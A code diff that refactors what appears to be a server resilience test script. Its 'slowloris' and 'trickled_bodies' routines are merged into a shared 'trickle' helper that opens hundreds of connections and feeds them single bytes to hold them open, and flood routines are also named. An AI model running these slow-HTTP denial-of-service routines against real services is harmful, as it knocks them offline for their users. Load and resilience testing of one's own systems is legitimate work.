@@ -61,13 +61,14 @@ def until(deadline):
     return time.monotonic() < deadline
 
 
-def slowloris(deadline):
+def trickle(deadline, head, conns, byte):
+    """`conns` connections that each send `head`, then `byte` every half second."""
     socks = []
-    for _ in range(1000):
+    for _ in range(conns):
         try:
             s = connect()
             s.setblocking(False)
-            s.send(b"GET /json HTTP/1.1\r\nHost: x\r\n")
+            s.send(head)
             socks.append(s)
         except OSError:
             pass
@@ -75,14 +76,19 @@ def slowloris(deadline):
     while until(deadline):
         for s in socks:
             try:
-                s.send(b"X")
+                s.send(byte)
                 sent += 1
             except OSError:
                 pass
         time.sleep(0.5)
     for s in socks:
         s.close()
-    return f"{len(socks)} connections, {sent:,} trickled bytes"
+    return len(socks), sent
+
+
+def slowloris(deadline):
+    conns, sent = trickle(deadline, b"GET /json HTTP/1.1\r\nHost: x\r\n", 1000, b"X")
+    return f"{conns} connections, {sent:,} trickled bytes"
 
 
 def drain(s, limit=65536):
@@ -182,28 +188,9 @@ def extension_flood(deadline):
 
 
 def trickled_bodies(deadline):
-    socks = []
-    for _ in range(200):
-        try:
-            s = connect()
-            s.setblocking(False)
-            s.send(b"POST /ingest HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
-                   b"Content-Length: 1000000\r\n\r\n{")
-            socks.append(s)
-        except OSError:
-            pass
-    sent = 0
-    while until(deadline):
-        for s in socks:
-            try:
-                s.send(b" ")
-                sent += 1
-            except OSError:
-                pass
-        time.sleep(0.5)
-    for s in socks:
-        s.close()
-    return f"{len(socks)} bodies, {sent:,} trickled bytes"
+    head = b"POST /ingest HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
+    conns, sent = trickle(deadline, head, 200, b" ")
+    return f"{conns} bodies, {sent:,} trickled bytes"
 
 
 def pipelined_flood(deadline):
